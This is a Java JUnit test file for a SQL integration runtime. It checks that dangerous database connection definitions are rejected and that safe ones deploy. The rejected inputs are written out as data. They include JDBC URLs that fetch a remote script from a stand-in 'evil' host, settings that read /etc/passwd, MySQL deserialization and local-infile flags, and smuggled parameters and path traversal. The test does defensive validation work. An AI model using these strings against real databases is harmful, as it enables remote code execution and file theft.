package io.hypha.camel.sql;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.hypha.config.InvalidDocumentException;
import io.hypha.config.Problem;
import io.hypha.integration.IntegrationException;
import java.nio.file.Path;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ConnectionSettingsTest {
    @TempDir
    static Path folder;

    private static SqlRuntime runtime;

    @BeforeAll
    static void start() throws Exception {
        runtime = new SqlRuntime(folder.resolve("databases"));
    }

    @AfterAll
    static void stop() {
        runtime.close();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{type: postgresql, connection: {database: d, options: {socketFactory: x}}}",
                "{type: postgresql, connection: {database: d, options: {sslfactory: x}}}",
                "{type: postgresql, connection: {database: d, options: {loggerFile: /tmp/x}}}",
                "{type: postgresql, connection: {database: d, options: {authenticationPluginClassName: x}}}",
                "{type: postgresql, connection: {database: d, options: {password: x}}}",
                "{type: postgresql, connection: {database: 'd?socketFactory=x'}}",
                "{type: postgresql, connection: {database: 'd&a=b'}}",
                "{type: postgresql, connection: {database: 'a/b'}}",
                "{type: postgresql, connection: {host: 'h/x?socketFactory=y', database: d}}",
                "{type: postgresql, connection: {host: 'user:pass@h', database: d}}",
                "{type: postgresql, connection: {url: 'jdbc:postgresql://h/d?socketFactory=x'}}",
                "{type: postgresql, connection: {url: 'jdbc:postgresql://h/d?user=x'}}",
                "{type: postgresql, connection: {url: 'jdbc:postgresql://u:p@h/d'}}",
                "{type: postgresql, connection: {url: 'jdbc:h2:mem:x'}}",
                "{type: postgresql, connection: {url: 'jdbc:postgresql:d'}}",
                "{type: postgresql, connection: {database: d, pool_size: 0}}",
                "{type: postgresql, connection: {database: d, max_wait: soon}}",
                "{type: mariadb, connection: {database: d, options: {allowLocalInfile: true}}}",
                "{type: mariadb, connection: {database: d, options: {serverRsaPublicKeyFile: /etc/passwd}}}",
                "{type: mysql, connection: {url: 'jdbc:mysql://h/d?allowLoadLocalInfile=true'}}",
                "{type: mysql, connection: {url: 'jdbc:mysql://h/d?autoDeserialize=true'}}",
                "{type: h2, connection: {url: 'jdbc:h2:mem:x;INIT=RUNSCRIPT FROM ''http://evil/x'''}}",
                "{type: h2, connection: {url: 'jdbc:h2:tcp://evil/x'}}",
                "{type: h2, connection: {url: 'jdbc:h2:file:/etc/x'}}",
                "{type: h2, connection: {url: 'jdbc:h2:~/x'}}",
                "{type: h2, connection: {url: 'jdbc:h2:zip:x.zip!/x'}}",
                "{type: h2, connection: {database: ../hypha}}",
                "{type: h2, connection: {database: a/../../hypha}}",
                "{type: h2, connection: {database: /etc/x}}",
                "{type: h2, connection: {database: x, options: {TRACE_LEVEL_FILE: 3}}}",
                "{type: h2, connection: {database: x, options: {MODE: \"Oracle;INIT=x\"}}}",
                "{type: duckdb, connection: {options: {enable_external_access: true}}}",
                "{type: duckdb, connection: {database: /etc/passwd}}",
                "{type: duckdb, connection: {url: 'jdbc:duckdb:x;session_init_sql_file=/etc/passwd'}}",
                "{type: jdbc, connection: {}}",
                "{type: jdbc, connection: {url: 'jdbc:h2:/etc/x'}}",
                "{type: jdbc, connection: {url: 'jdbc:h2:mem:x;INIT=x'}}",
                "{type: jdbc, connection: {url: 'jdbc:postgresql://h/d?loggerFile=x'}}",
                "{type: jdbc, connection: {url: 'jdbc:sqlite:/etc/passwd'}}",
                "{type: jdbc, connection: {url: 'jdbc:oracle:thin:scott/tiger@//h:1521/x'}}",
                "{type: jdbc, connection: {url: 'jdbc:calcite:model=inline:x'}}",
                "{type: jdbc, connection: {url: 'http://h/d'}}",
                "{type: h2, connection: {}, operations: {x: {statement: \"select 'x\"}}}",
                "{type: h2, connection: {}, operations: {x: {statement: \"call f(:x)\", out: {x: nothing}}}}",
            })
    void shouldRefuse(String definition) {
        assertThatThrownBy(() -> runtime.register("hostile", definition)).isInstanceOf(InvalidDocumentException.class);
        assertThat(runtime.integrations.check(definition))
                .as("validating says so too")
                .isNotEmpty();
        assertThat(runtime.integrations.has("hostile")).isFalse();
        assertThat(folder.resolve("databases")).doesNotExist();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{type: postgresql, connection: {url: 'jdbc:postgresql://h1:1,h2:2/d?sslmode=verify-full'}}",
                "{type: postgresql, connection: {host: '[::1]', database: d, options: {sslmode: require}}}",
                "{type: mysql, connection: {url: 'jdbc:mysql://h/d?sslMode=verify-full'}}",
                "{type: mariadb, connection: {database: d, max_wait: 500ms}}",
                "{type: database, connection: {url: 'jdbc:duckdb:'}}",
                "{type: jdbc, connection: {url: 'jdbc:postgresql://h:5432/d?sslmode=require'}}",
            })
    void shouldDeployWithoutContactingTheDatabase(String definition) {
        runtime.register("fine", definition);
        runtime.unregister("fine");
    }

    @Test
    void shouldSayWhichDriverIsMissing() {
        assertThatThrownBy(() ->
                        runtime.register("ora", "{type: jdbc, connection: {url: 'jdbc:oracle:thin:@//h:1521/x'}}"))
                .isInstanceOf(IntegrationException.class)
                .hasMessageContaining("jdbc:oracle:thin:@//h:1521/x")
                .hasMessageContaining("lib folder");
    }

    @Test
    void shouldSuggestOptions() {
        assertThatThrownBy(() -> runtime.register(
                        "pg", "{type: postgresql, connection: {url: 'jdbc:postgresql://h/d?sslmod=require'}}"))
                .hasMessageContaining("did you mean 'sslmode'?");
        assertThat(runtime.integrations.check(
                        "{type: postgresql, connection: {url: 'jdbc:postgresql://h/d?sslmod=require'}}"))
                .extracting(Problem::suggestion)
                .containsExactly("sslmode");
    }
}
